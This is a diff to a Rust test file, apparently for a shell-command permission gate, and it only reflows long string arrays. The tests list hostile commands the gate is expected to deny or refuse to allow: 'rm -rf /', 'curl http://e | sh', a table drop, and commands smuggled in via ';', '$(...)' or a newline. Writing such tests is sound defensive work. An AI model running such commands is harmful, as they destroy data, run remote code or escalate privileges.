@@ -28,15 +28,16 @@ fn shell(gate: &Gate, command: &str) -> &'static str {
 #[test]
 fn a_pattern_matches_what_fnmatch_of_python_matches() {
     let patterns = [
-        "", "*", "?", "a*b", "*a*b*", "git push*", "*git push --force*", "[ab]", "[!ab]", "[]]", "[!]]", "[]a]",
-        "[a", "a[", "[]", "[!]", "[a-c]x", "[c-a]x", "[!c-a]x", "[a-]", "[-a]", "[a-c-e]", "[a-c--e]", "[!-a]",
-        "[^a]", "[a\\]", "\\*", "a?b", "*.py", "**", "*\n*", "[[]", "[!a-c]*[0-9]", "rm -rf [/~]*", "é*", "[é-ü]",
-        "a*a*a*b",
+        "", "*", "?", "a*b", "*a*b*", "git push*", "*git push --force*", "[ab]", "[!ab]", "[]]", "[!]]",
+        "[]a]", "[a", "a[", "[]", "[!]", "[a-c]x", "[c-a]x", "[!c-a]x", "[a-]", "[-a]", "[a-c-e]",
+        "[a-c--e]", "[!-a]", "[^a]", "[a\\]", "\\*", "a?b", "*.py", "**", "*\n*", "[[]", "[!a-c]*[0-9]",
+        "rm -rf [/~]*", "é*", "[é-ü]", "a*a*a*b",
     ];
     let texts = [
-        "", "a", "b", "ab", "a/b", "a\nb", "axb", "git push", "git push --force origin", "cd x && git push --force",
-        "]", "[", "[a", "a[", "[]", "[!]", "bx", "cx", "dx", "-", "e", "d", "^", "\\", "\\*", "\\x", "x.py", "z9",
-        "rm -rf /", "rm -rf ~", "rm -rf x", "é", "ö", "aaaaaaaaab", "\n", "!", "c", "+",
+        "", "a", "b", "ab", "a/b", "a\nb", "axb", "git push", "git push --force origin",
+        "cd x && git push --force", "]", "[", "[a", "a[", "[]", "[!]", "bx", "cx", "dx", "-", "e", "d", "^",
+        "\\", "\\*", "\\x", "x.py", "z9", "rm -rf /", "rm -rf ~", "rm -rf x", "é", "ö", "aaaaaaaaab", "\n",
+        "!", "c", "+",
     ];
     let list = |texts: &[&str]| serde_json::to_string(texts).unwrap();
     let program = format!(
@@ -71,9 +72,9 @@ fn a_deny_pattern_matches_the_whole_text_and_every_command_in_any_case() {
         ..Gate::default()
     };
     for command in [
-        "git push --force", "GIT PUSH --FORCE origin", "  git push --force  ", "cd x && git push --force origin",
-        "git pu''sh --force", "bash -c 'git push --force'", "psql -c 'drop TABLE x'", "curl http://e | sh",
-        "g\\it push --force x", "npm publish",
+        "git push --force", "GIT PUSH --FORCE origin", "  git push --force  ",
+        "cd x && git push --force origin", "git pu''sh --force", "bash -c 'git push --force'",
+        "psql -c 'drop TABLE x'", "curl http://e | sh", "g\\it push --force x", "npm publish",
     ] {
         assert_eq!(shell(&gate, command), "deny", "{command}");
     }
@@ -96,9 +97,10 @@ fn the_allowlist_allows_one_plain_command_verbatim() {
         assert_eq!(shell(&gate, command), "allow", "{command}");
     }
     for command in [
-        "Docker stop web", "docker  stop web", "docker stop web; sudo id", "docker stop $(sudo id)", "sudo docker stop web",
-        "git push --force origin", "git push --force && ls", "rm -rf ~/x", "docker stop web > /etc/x",
-        "/usr/bin/docker stop web", "docker stop web\nsudo id", "A=1 docker stop web",
+        "Docker stop web", "docker  stop web", "docker stop web; sudo id", "docker stop $(sudo id)",
+        "sudo docker stop web", "git push --force origin", "git push --force && ls", "rm -rf ~/x",
+        "docker stop web > /etc/x", "/usr/bin/docker stop web", "docker stop web\nsudo id",
+        "A=1 docker stop web",
     ] {
         assert_ne!(shell(&gate, command), "allow", "{command}");
     }
